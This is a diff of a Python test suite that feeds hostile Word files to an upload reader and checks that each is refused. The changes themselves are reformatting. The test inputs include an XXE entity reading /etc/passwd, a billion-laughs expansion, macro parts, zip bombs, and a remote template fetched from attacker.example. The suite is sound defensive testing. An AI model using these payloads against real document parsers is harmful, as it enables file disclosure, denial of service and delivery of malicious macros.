@@ -15,9 +15,9 @@ GOOD = paragraph("正文。")
 XXE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 LAUGHS = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
 TEMPLATE = (
-    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-    'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
-).encode()
+    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+)
 MACRO_TYPES = TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
 
 
@@ -80,14 +80,26 @@ HOSTILE = {
     "xml bomb": ("a.docx", wide_xml_bomb, "解压后过大"),
     "two million empty paragraphs": ("a.docx", empty_paragraphs, "过"),
     "two million empty paragraphs among pictures": ("a.docx", padded_empty_paragraphs, "段落过多"),
-    "external entity": ("a.docx", lambda: raw_word_file("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog=XXE), "外部实体"),
+    "external entity": (
+        "a.docx",
+        lambda: raw_word_file("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog=XXE),
+        "外部实体",
+    ),
     "billion laughs": ("a.docx", lambda: raw_word_file(GOOD, prolog=LAUGHS), "外部实体"),
-    "entity in another part": ("a.docx", lambda: raw_word_file(GOOD, extra={"word/styles.xml": XXE.encode()}), "外部实体"),
+    "entity in another part": (
+        "a.docx",
+        lambda: raw_word_file(GOOD, extra={"word/styles.xml": XXE.encode()}),
+        "外部实体",
+    ),
     "utf-16 document": ("a.docx", utf16_document, "不是有效的 Word"),
     "macro part": ("a.docx", lambda: raw_word_file(GOOD, extra={"word/vbaProject.bin": b"x"}), "宏"),
     "macro type": ("a.docx", lambda: raw_word_file(GOOD, types=MACRO_TYPES), "宏"),
     "macro name": ("a.docm", lambda: word_file("正文。"), "宏"),
-    "remote template": ("a.docx", lambda: raw_word_file(GOOD, extra={"word/_rels/settings.xml.rels": TEMPLATE}), "外部模板"),
+    "remote template": (
+        "a.docx",
+        lambda: raw_word_file(GOOD, extra={"word/_rels/settings.xml.rels": TEMPLATE}),
+        "外部模板",
+    ),
     "nested 40,000 deep": ("a.docx", deep, "。"),
     "size that lies": ("a.docx", lying_size, "不是有效的 Word"),
     "many members": ("a.docx", lambda: raw_word_file(GOOD, extra={f"x/{n}": b"" for n in range(3000)}), "解压后过大"),
@@ -119,8 +131,10 @@ def test_hostile_files_are_refused_quickly_with_a_sentence(case: str) -> None:
 
 def test_hyperlinks_and_pictures_do_no_harm() -> None:
     link = (
-        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        'hyperlink" Target="http://www.example.org" TargetMode="External"/></Relationships>'
-    ).encode()
-    data = raw_word_file(GOOD, extra={"word/_rels/document.xml.rels": link, "word/media/a.png": b"\x89PNG" + b"\0" * 90})
+        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'hyperlink" Target="http://www.example.org" TargetMode="External"/></Relationships>'
+    )
+    data = raw_word_file(
+        GOOD, extra={"word/_rels/document.xml.rels": link, "word/media/a.png": b"\x89PNG" + b"\0" * 90}
+    )
     assert read_upload("a.docx", data).body[0].text == "正文。"
